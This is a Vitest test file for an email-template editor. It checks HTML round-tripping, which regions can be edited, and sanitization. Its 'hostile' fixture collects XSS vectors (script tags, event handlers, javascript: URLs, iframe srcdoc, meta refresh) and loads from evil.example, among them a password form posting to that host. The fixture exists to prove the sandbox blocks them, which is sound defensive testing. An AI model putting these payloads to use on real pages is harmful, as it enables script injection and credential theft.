import { markAll } from '@sillage/core/document'
import { expect, test } from 'vitest'
import { corpus } from '../support/corpus.ts'
import { mountTemplate, settled } from '../support/editor.ts'
import { mailOf, place } from '../support/template.ts'
import { marked } from './mails.ts'

test('mails of all kinds are opened place by place, and come back byte for byte', async () => {
  let places = 0
  const editor = await mountTemplate(marked)
  expect(Object.keys(corpus).length).toBeGreaterThan(50)
  for (const [name, html] of Object.entries(corpus)) {
    editor.value = html
    await settled(editor)
    const boxes = [...mailOf(editor).querySelectorAll<HTMLElement>('.sillage-box')]
    boxes.at(-1)?.focus()
    places += boxes.length
    expect(editor.html === html, name).toBe(true)
    expect(editor.value.source === html, name).toBe(true)
  }
  expect(places).toBeGreaterThan(150)
})

test('a long template is drawn at once, and of its places only the one that is written costs anything', async () => {
  const rows = Array.from({ length: 500 }, (_, at) => `<tr><td><p style="margin:0">Row ${at}</p></td></tr>`)
  const html = `<table>${rows.join('')}</table>`
  const editor = await mountTemplate(html)
  const boxes = [...mailOf(editor).querySelectorAll<HTMLElement>('.sillage-box')]
  expect(boxes).toHaveLength(500)
  expect(mailOf(editor).querySelectorAll('[contenteditable]')).toHaveLength(0)
  for (const row of [3, 400]) boxes[row]?.focus()
  editor.insertText('!')
  expect(mailOf(editor).querySelectorAll('[contenteditable]')).toHaveLength(1)
  expect(editor.html).toBe(html.replace('Row 400<', 'Row 400!<'))
})

test('a place whose words would cost a picture or a table is not offered, nor one with a section in it', async () => {
  const editor = await mountTemplate(
    `<table role="presentation"><tr><td data-edit="a" data-edit-kind="text">Words <img src="https://a.example/b.png" alt="B"></td></tr></table>
    <div data-edit="b"><table role="presentation"><tr><td>One</td></tr></table></div>
    <p data-edit="c">{{#vip}}You{{/vip}}</p><a data-edit="d" href="https://a.example/"><img src="https://a.example/b.png" alt="B"></a>
    <p>{{#vip}}For {{name|you}}{{/vip}}{% if x %}!{% endif %}</p>`,
  )
  const boxes = [...mailOf(editor).querySelectorAll('.sillage-box')]
  // The link around a picture has its address to change.
  expect(boxes.map((box) => [box.getAttribute('role'), box.closest<HTMLElement>('[data-edit]')?.dataset.edit])).toEqual(
    [['button', 'd']],
  )
  // What stands in a section is shown once, without its tags.
  expect(mailOf(editor).querySelector('p:last-child')?.textContent).toBe('For Name | you!')
})

const hostile = `<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/a.css"><style>@import "https://evil.example/b.css"; @font-face { font-family: E; src: url(https://evil.example/f.woff2) }
:host, :host(.mail) { position: fixed !important; inset: 0 !important; z-index: 99 } * { font-family: E } .bar, button { display: none !important }
.over { position: fixed; inset: 0; z-index: 99999 } body { color: rgb(1, 2, 3) } @media all { html > body p { font-weight: 700 } }</style></head>
<body onload="ran()" style="background:url(javascript:ran())"><script>ran()</script><div class="over" onclick="ran()">over</div>
<p data-edit="a" onfocus="ran()" autofocus tabindex="1">Words <a href="javascript:ran()" target="_top">out</a></p>
<img src="x" onerror="ran()"><img src="javascript:ran()"><svg onload="ran()"><script>ran()</script><image href="https://evil.example/i.png" /></svg>
<iframe srcdoc="<script>parent.ran()</script>" src="https://evil.example/"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">
<video src="https://evil.example/v.mp4" autoplay></video><form action="https://evil.example/"><input name="password" autofocus><button>Send</button></form>
<template><img src="x" onerror="ran()"></template><math><mtext><img src=x onerror=ran()></mtext></math><custom-evil>text</custom-evil>
<p contenteditable data-edit="b" style="position:fixed;top:0;left:0">fixed</p></body></html>`

test('nothing of a mail runs, leads away or is loaded but pictures, and its styles stay in it', async () => {
  const ran: string[] = []
  Object.assign(globalThis, { ran: () => ran.push('ran') })
  performance.clearResourceTimings()
  const editor = await mountTemplate(hostile)
  const stage = editor.shadowRoot?.querySelector('.stage') as HTMLElement
  const mail = mailOf(editor)
  const names = new Set([...mail.querySelectorAll('*')].map(({ localName }) => localName))
  expect([...names].sort()).toEqual(['a', 'div', 'img', 'mail-body', 'p'])
  const attributes = [...mail.querySelectorAll('*')].flatMap((element) => element.getAttributeNames())
  expect(attributes.filter((name) => /^(?:on|href)|autofocus|contenteditable|target|action/.test(name))).toEqual([])
  expect(mail.textContent).not.toMatch(/ran|@import/)
  const rules = mail.adoptedStyleSheets.flatMap(({ cssRules }) => [...cssRules])
  expect(rules.filter((rule) => rule instanceof CSSFontFaceRule || /:host/.test(rule.cssText))).toEqual([])
  place(editor, 'a').querySelector('a')?.click()
  place(editor, 'a').dispatchEvent(new FocusEvent('focus'))
  mail.querySelector<HTMLElement>('.over')?.click()
  await settled(editor)
  expect(ran).toEqual([])
  const loaded = performance.getEntriesByType('resource').map(({ name }) => name)
  expect(loaded.filter((name) => name.includes('evil.example'))).toEqual([])
  // Its styles reach what it is, and nothing around it.
  expect(getComputedStyle(place(editor, 'a')).color).toBe('rgb(1, 2, 3)')
  expect(getComputedStyle(place(editor, 'a')).fontWeight).toBe('700')
  expect(getComputedStyle(editor.shadowRoot?.querySelector('.bar') as Element).display).toBe('flex')
  const within = stage.getBoundingClientRect()
  for (const element of [editor.shadowRoot?.querySelector('.mail'), mail.querySelector('.over'), place(editor, 'b')]) {
    const { top, left, right } = (element as Element).getBoundingClientRect()
    expect([top >= within.top, left >= within.left, right <= within.right]).toEqual([true, true, true])
  }
  editor.insertText('!')
  expect(editor.html).toContain('autofocus tabindex="1">Words out!</p>')
  expect(markAll(hostile)).toBe(hostile)
})
